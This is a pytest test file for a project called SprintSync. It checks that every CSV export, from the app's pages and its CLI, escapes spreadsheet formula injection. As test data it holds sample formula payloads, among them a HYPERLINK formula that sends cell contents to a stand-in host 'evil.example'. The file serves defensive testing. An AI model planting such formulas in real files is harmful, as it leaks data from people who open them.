"""Every CSV SprintSync hands out is safe to open in a spreadsheet: text a spreadsheet would
run as a formula (=, +, -, @, tab, carriage return in front) comes out marked as text, on every
download of every page and in the CLI's --format csv; and no code writes a CSV any other way."""

from __future__ import annotations

import io
import re
import tomllib
from pathlib import Path

import pandas as pd
import pytest

from sprintsync.exports import FORMULA_STARTS, csv_text, spreadsheet_safe
from sprintsync.services import tasks, timelog, users
from sprintsync.ui.parts.analytics import SECTION_KEY, SECTIONS
from tests.ui.page_runner import open_page, with_week_charts_open

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'
MINUS = "-2-3"  # a username a spreadsheet would compute (-5)
DANGEROUS = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_is_marked_as_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Plain title", "#12 Fix =1+1", "", "a-b", 42, -3.5, None])
def test_everything_else_is_left_as_it_is(value):
    assert spreadsheet_safe(value) == value


def cells(csv: str) -> list[str]:
    frame = pd.read_csv(io.StringIO(csv), dtype=str, keep_default_na=False)
    return [*map(str, frame.columns), *frame.to_numpy().ravel().tolist()]


def assert_safe(csv: str, *typed: str) -> None:
    found = cells(csv)
    for cell in found:
        if re.fullmatch(r"-?\d+(\.\d+)?", cell):
            continue  # a number, written as one
        assert cell.lstrip(" ")[:1] not in FORMULA_STARTS, cell
    for text in typed:
        assert "'" + text in found, f"{text!r} is missing from the export"


def test_a_frame_of_hostile_text_comes_out_safe_numbers_untouched():
    frame = pd.DataFrame({"=cmd": DANGEROUS, "n": range(-4, 4)})
    csv = csv_text(frame)
    assert_safe(csv, *DANGEROUS, "=cmd")
    assert pd.read_csv(io.StringIO(csv))["n"].tolist() == list(range(-4, 4))


def served(at, downloads) -> list[str]:
    buttons = at.get("download_button")
    assert buttons, "the page offers no download"
    return [downloads.of(b).decode("utf-8") for b in buttons]


@pytest.fixture
def hostile(uow, make_user, admin):
    """A member whose username and full name, and whose task titles and time, are formulas."""
    minus = make_user(MINUS)
    users.update_profile(uow(), actor=minus, full_name=FORMULA, email=None)
    task = tasks.create_task(uow(), actor=minus, title=FORMULA, estimate="1h")
    tasks.create_task(uow(), actor=minus, title="@SUM(A1:A9)")
    timelog.log_time(uow(), actor=minus, task_id=task.id, duration="45m")
    return minus


def test_every_analytics_download_is_safe(hostile, manager, downloads):
    at = open_page("analytics.py", manager)
    files = served(at, downloads)
    for section in SECTIONS[1:]:  # only the open section is drawn
        at.session_state[SECTION_KEY] = section
        files += served(at.run(), downloads)
    assert len(files) >= 4  # time in status has nothing to show without a finished task
    for csv in files:
        assert_safe(csv)
    assert "'" + MINUS in cells(files[0])  # the person, by name


def test_the_my_time_downloads_are_safe(hostile, downloads):
    at = with_week_charts_open(open_page("my_time.py", hostile))
    for csv in served(at, downloads):
        assert_safe(csv)


def test_the_team_download_is_safe(hostile, manager, downloads):
    at = open_page("team.py", manager)
    (csv,) = served(at, downloads)
    assert_safe(csv, FORMULA, "@SUM(A1:A9)", MINUS)


def test_the_admin_downloads_are_safe(hostile, admin, downloads):
    at = open_page("admin.py", admin)
    (people,) = served(at, downloads)
    at.session_state["admin_tabs"] = "Audit log"  # only the open tab is drawn
    (audit_log,) = served(at.run(), downloads)
    assert_safe(people, FORMULA, MINUS)
    assert_safe(audit_log, MINUS)


def test_the_cli_csv_report_is_safe(cli, hostile):
    code, out, _ = cli("report", "minutes", "--format", "csv")
    assert code == 0
    assert_safe(out, MINUS)


def test_the_tables_own_export_is_off_so_every_download_goes_through_exports():
    config = tomllib.loads((ROOT / ".streamlit/config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


SOURCES = [
    p
    for p in [*ROOT.glob("sprintsync/**/*.py"), *ROOT.glob("app_pages/*.py"), ROOT / "app.py"]
    if p.relative_to(ROOT).as_posix() not in ("sprintsync/exports.py", "sprintsync/ui/exports.py")
]
WRITERS = re.compile(
    r"\.to_csv\(|\.to_excel\(|download_button\(|^\s*import csv|csv\.writer|openpyxl", re.M
)


@pytest.mark.parametrize("path", SOURCES, ids=lambda p: p.relative_to(ROOT).as_posix())
def test_no_code_writes_a_spreadsheet_file_but_the_exports_module(path):
    assert not WRITERS.search(path.read_text())
